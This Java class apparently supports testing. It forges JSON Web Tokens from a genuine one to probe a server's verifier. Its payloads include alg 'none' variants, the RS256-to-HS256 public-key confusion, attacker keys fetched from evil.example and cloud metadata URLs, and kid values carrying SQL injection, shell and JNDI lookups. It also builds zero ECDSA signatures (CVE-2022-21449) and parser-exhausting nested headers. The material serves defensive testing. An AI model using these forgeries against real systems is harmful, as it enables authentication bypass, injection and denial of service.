package org.lintel.http;

import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.KeyFactory;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.security.PublicKey;
import java.security.Signature;
import java.security.interfaces.RSAPublicKey;
import java.security.spec.RSAPublicKeySpec;
import java.text.ParseException;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;

import com.nimbusds.jose.util.JSONObjectUtils;
import jakarta.json.JsonObject;

import org.lintel.flow.Answer;
import org.lintel.flow.Lintel;

/** Makes tokens out of a genuine one as somebody would who has everything but our private keys (RFC 8725). */
final class Forgery {

    private static final Base64.Encoder BASE64URL = Base64.getUrlEncoder().withoutPadding();
    private static final KeyPair OURS = keyPair();

    private final String header;
    private final String payload;
    private final String signature;
    private final String typ;
    private final String kid;

    Forgery(String genuine) {
        String[] parts = genuine.split("\\.");
        header = parts[0];
        payload = parts[1];
        signature = parts[2];
        Map<String, Object> members = parse(header);
        typ = (String) members.get("typ");
        kid = (String) members.get("kid");
    }

    /** By what is wrong with them. */
    Map<String, String> all() {
        var tokens = new LinkedHashMap<String, String>();
        unsigned(tokens);
        hmacs(tokens);
        keysOfTheForger(tokens);
        kids(tokens);
        signatures(tokens);
        encrypted(tokens);
        oddities(tokens);
        return tokens;
    }

    private void unsigned(Map<String, String> tokens) {
        for (String alg : List.of("none", "None", "NONE", "nOnE", "none ", "")) {
            tokens.put("alg " + alg + ", no signature", encode(header("\"" + alg + "\"", quoted(kid), "")) + "." + payload + ".");
            tokens.put("alg " + alg + ", the genuine signature", encode(header("\"" + alg + "\"", quoted(kid), "")) + "." + payload + "."
                    + signature);
        }
        for (String alg : List.of("null", "1", "[]", "{}", "[\"none\"]", "true")) {
            tokens.put("alg is " + alg, encode(header(alg, quoted(kid), "")) + "." + payload + ".");
        }
        tokens.put("no alg", encode("{\"typ\":\"" + typ + "\",\"kid\":\"" + kid + "\"}") + "." + payload + ".");
        tokens.put("alg twice", encode(header("\"none\",\"alg\":\"RS256\"", quoted(kid), "")) + "." + payload + ".");
        tokens.put("no kid, no alg, unsigned", encode("{\"typ\":\"" + typ + "\"}") + "." + payload + ".");
    }

    /** The public key is no secret: whoever lets the token choose the algorithm takes it for one. */
    private void hmacs(Map<String, String> tokens) {
        RSAPublicKey published = published();
        byte[] der = published.getEncoded();
        String lines = Base64.getMimeEncoder(64, "\n".getBytes(StandardCharsets.US_ASCII)).encodeToString(der);
        byte[] modulus = published.getModulus().toByteArray();
        String pem = "-----BEGIN PUBLIC KEY-----\n" + lines + "\n-----END PUBLIC KEY-----";
        Map<String, byte[]> secrets = new LinkedHashMap<>();
        secrets.put("the public key in DER", der);
        secrets.put("the public key in PEM", bytes(pem));
        secrets.put("the public key in PEM with a line break", bytes(pem + "\n"));
        secrets.put("the modulus with its sign", modulus);
        secrets.put("the modulus", Arrays.copyOfRange(modulus, 1, modulus.length));
        secrets.put("n as published", bytes(jwk().getString("n")));
        secrets.put("the certificate as published", bytes(jwk().getJsonArray("x5c").getString(0)));
        secrets.put("the whole key as published", bytes(jwk().toString()));
        secrets.put("zero", new byte[32]);
        secrets.forEach((name, secret) -> {
            tokens.put("HS256 with " + name, mac("HmacSHA256", secret, header("\"HS256\"", quoted(kid), "")));
        });
        tokens.put("HS512 with the public key in PEM", mac("HmacSHA512", bytes(pem), header("\"HS512\"", quoted(kid), "")));
    }

    private void keysOfTheForger(Map<String, String> tokens) {
        var key = (RSAPublicKey) OURS.getPublic();
        String jwk = "{\"kty\":\"RSA\",\"kid\":\"" + kid + "\",\"e\":\"AQAB\",\"n\":\"" + BASE64URL.encodeToString(
                Arrays.copyOfRange(key.getModulus().toByteArray(), 1, 257)) + "\"}";
        for (String more : List.of("", ",\"jwk\":" + jwk, ",\"jku\":\"https://evil.example/jwks\"",
                ",\"jku\":\"" + Lintel.server().address() + "/.well-known/jwks\"", ",\"jku\":\"http://127.0.0.1:1/\"",
                ",\"jku\":\"file:///etc/passwd\"", ",\"x5u\":\"https://evil.example/cert\"", ",\"x5u\":\"http://169.254.169.254/\"",
                ",\"x5c\":[\"MIIB\"]", ",\"x5t\":\"" + kid + "\"", ",\"x5t#S256\":\"x\"", ",\"crit\":[\"exp\"]",
                ",\"crit\":[\"b64\"],\"b64\":false",
                ",\"crit\":[]", ",\"crit\":\"x\"", ",\"cty\":\"JWT\"")) {
            tokens.put("the forger's key" + more, signed("SHA256withRSA", header("\"RS256\"", quoted(kid), more)));
        }
        tokens.put("the forger's key without kid", signed("SHA256withRSA",
                "{\"alg\":\"RS256\",\"typ\":\"" + typ + "\",\"jwk\":" + jwk + "}"));
        tokens.put("the forger's key under its own kid", signed("SHA256withRSA", header("\"RS256\"", "\"mine\"", ",\"jwk\":" + jwk)));
        tokens.put("the forger's key, RS512", signed("SHA512withRSA", header("\"RS512\"", quoted(kid), "")));
    }

    private void kids(Map<String, String> tokens) {
        for (String odd : List.of("\"../../../../../../dev/null\"", "\"/dev/null\"", "\"file:///dev/null\"", "\"x' UNION SELECT 'x\"",
                "\"x'; DROP TABLE keys; --\"", "\"| touch /tmp/x\"", "\"${jndi:ldap://evil.example/x}\"", "\"\"", "\"\\u0000\"", "null",
                "1",
                "1e999", "[]", "[\"" + kid + "\"]", "{\"a\":1}", "\"" + kid + " \"", "\"" + kid.toUpperCase() + "x\"",
                "\"" + "k".repeat(5_000) + "\"")) {
            String name = odd.length() > 60 ? "a long one" : odd;
            tokens.put("kid " + name + ", HS256 with nothing", mac("HmacSHA256", new byte[1], header("\"HS256\"", odd, "")));
            tokens.put("kid " + name + ", the genuine signature", encode(header("\"RS256\"", odd, "")) + "." + payload + "." + signature);
        }
    }

    private void signatures(Map<String, String> tokens) {
        tokens.put("another payload", header + "." + encode(text(payload).replace("alice", "bob00")) + "." + signature);
        tokens.put("another expiry",
                header + "." + encode(text(payload).replaceFirst("\"exp\":\\d+", "\"exp\":9999999999")) + "." + signature);
        tokens.put("huge numbers",
                header + "." + encode(text(payload).replaceFirst("\"exp\":\\d+", "\"exp\":1e999999999")) + "." + signature);
        tokens.put("sub twice", header + "." + encode(text(payload).replaceFirst("\\{", "{\"sub\":\"bob-1\",")) + "." + signature);
        tokens.put("no signature", header + "." + payload + ".");
        tokens.put("two parts", header + "." + payload);
        tokens.put("one part", header);
        tokens.put("four parts", header + "." + payload + "." + signature + "." + signature);
        tokens.put("half a signature", header + "." + payload + "." + signature.substring(0, signature.length() / 2));
        tokens.put("a signature of zeros", header + "." + payload + "." + "A".repeat(signature.length()));
        tokens.put("a signature of the header", header + "." + payload + "." + header);
        tokens.put("another header", encode(text(header).replaceFirst("\\{", "{\"x\":1,")) + "." + payload + "." + signature);
        tokens.put("another typ",
                encode(text(header).replace(typ, typ.equals("JWT") ? "at+jwt" : "JWT")) + "." + payload + "." + signature);
        tokens.put("no header", "." + payload + "." + signature);
        tokens.put("no payload", header + ".." + signature);
        tokens.put("dots", "..");
        for (String alg : List.of("PS256", "RS384", "RS512", "ES256", "EdDSA", "rs256", "HS256", "ML-DSA-65")) {
            tokens.put("the genuine signature as " + alg,
                    encode(header("\"" + alg + "\"", quoted(kid), "")) + "." + payload + "." + signature);
        }
        // "psychic signatures" (CVE-2022-21449)
        for (String ec : List.of(kid, kidOf("ES256"))) {
            tokens.put("ES256 of zeros for " + ec, encode(header("\"ES256\"", quoted(ec), "")) + "." + payload + "."
                    + BASE64URL.encodeToString(new byte[64]));
            tokens.put("ES256 of zeros in DER for " + ec, encode(header("\"ES256\"", quoted(ec), "")) + "." + payload + "."
                    + BASE64URL.encodeToString(new byte[] {0x30, 6, 2, 1, 0, 2, 1, 0}));
        }
    }

    private void encrypted(Map<String, String> tokens) {
        for (String head : List.of("{\"alg\":\"PBES2-HS512+A256KW\",\"enc\":\"A256GCM\",\"p2c\":2147483647,\"p2s\":\"AAAAAAAAAAA\"}",
                "{\"alg\":\"dir\",\"enc\":\"A128CBC-HS256\",\"zip\":\"DEF\"}",
                "{\"alg\":\"RSA-OAEP-256\",\"enc\":\"A256GCM\",\"kid\":\"" + kid + "\"}",
                "{\"alg\":\"none\",\"enc\":\"none\"}")) {
            tokens.put("encrypted " + head, encode(head) + ".AAAA.AAAA.AAAA.AAAA");
            tokens.put("encrypted, without parts " + head, encode(head) + "....");
        }
        String nested = header + "." + payload + "." + signature;
        for (int i = 0; i < 4; i++) {
            nested = encode("{\"alg\":\"none\",\"typ\":\"" + typ + "\",\"cty\":\"JWT\"}") + "." + encode(nested) + ".";
        }
        tokens.put("nested", nested);
    }

    private void oddities(Map<String, String> tokens) {
        tokens.put("a padded signature", header + "." + payload + "." + signature + "==");
        tokens.put("a padded payload", header + "." + payload + "=." + signature);
        tokens.put("a blank in the payload", header + "." + payload.substring(0, 4) + " " + payload.substring(4) + "." + signature);
        tokens.put("a header with depth",
                encode(header("\"RS256\"", quoted(kid), ",\"x\":" + "[".repeat(10_000) + "]".repeat(10_000))) + "."
                        + payload + "." + signature);
        tokens.put("a header that never ends", encode("{\"alg\":\"RS256\",\"x\":" + "[".repeat(10_000)) + "." + payload + "." + signature);
        tokens.put("a payload with depth",
                header + "." + encode("{\"x\":" + "{\"x\":".repeat(5_000) + "1" + "}".repeat(5_001)) + "." + signature);
        tokens.put("a header with a huge number",
                encode(header("\"RS256\"", quoted(kid), ",\"x\":" + "9".repeat(20_000))) + "." + payload + "."
                        + signature);
        tokens.put("a header that is no object", encode("[]") + "." + payload + "." + signature);
        tokens.put("a header that is no JSON", encode("alg=RS256") + "." + payload + "." + signature);
        tokens.put("a header that is no UTF-8",
                BASE64URL.encodeToString(new byte[] {(byte) 0xff, (byte) 0xfe}) + "." + payload + "." + signature);
        tokens.put("longer than any", header + "." + payload + "A".repeat(60_000) + "." + signature);
        tokens.put("the JSON serialization",
                "{\"protected\":\"" + header + "\",\"payload\":\"" + payload + "\",\"signature\":\"" + signature + "\"}");
    }

    private String header(String alg, String kidValue, String more) {
        return "{\"alg\":" + alg + ",\"typ\":\"" + typ + "\",\"kid\":" + kidValue + more + "}";
    }

    private String mac(String algorithm, byte[] secret, String head) {
        try {
            Mac mac = Mac.getInstance(algorithm);
            mac.init(new SecretKeySpec(secret, algorithm));
            String input = encode(head) + "." + payload;
            return input + "." + BASE64URL.encodeToString(mac.doFinal(bytes(input)));
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    private String signed(String algorithm, String head) {
        try {
            String input = encode(head) + "." + payload;
            Signature signer = Signature.getInstance(algorithm);
            signer.initSign(OURS.getPrivate());
            signer.update(bytes(input));
            return input + "." + BASE64URL.encodeToString(signer.sign());
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    /** The key that signed the genuine token, as everybody can have it. */
    private RSAPublicKey published() {
        try {
            PublicKey key = KeyFactory.getInstance("RSA").generatePublic(
                    new RSAPublicKeySpec(number(jwk().getString("n")), number(jwk().getString("e"))));
            return (RSAPublicKey) key;
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    private JsonObject jwk() {
        return jwks().stream().filter(jwk -> jwk.getString("kid").equals(kid)).findFirst().orElseThrow();
    }

    private static String kidOf(String algorithm) {
        return jwks().stream().filter(jwk -> jwk.getString("alg").equals(algorithm)).findFirst().orElseThrow().getString("kid");
    }

    private static List<JsonObject> jwks() {
        return Answer.get(Lintel.server().at("/.well-known/jwks")).json().getJsonArray("keys").getValuesAs(JsonObject.class);
    }

    private static BigInteger number(String base64url) {
        return new BigInteger(1, Base64.getUrlDecoder().decode(base64url));
    }

    private static Map<String, Object> parse(String part) {
        try {
            return JSONObjectUtils.parse(text(part));
        } catch (ParseException e) {
            throw new IllegalStateException(e);
        }
    }

    private static String text(String part) {
        return new String(Base64.getUrlDecoder().decode(part), StandardCharsets.UTF_8);
    }

    private static String encode(String text) {
        return BASE64URL.encodeToString(bytes(text));
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static String quoted(String text) {
        return "\"" + text + "\"";
    }

    private static KeyPair keyPair() {
        try {
            KeyPairGenerator generator = KeyPairGenerator.getInstance("RSA");
            generator.initialize(2048);
            return generator.generateKeyPair();
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }
}
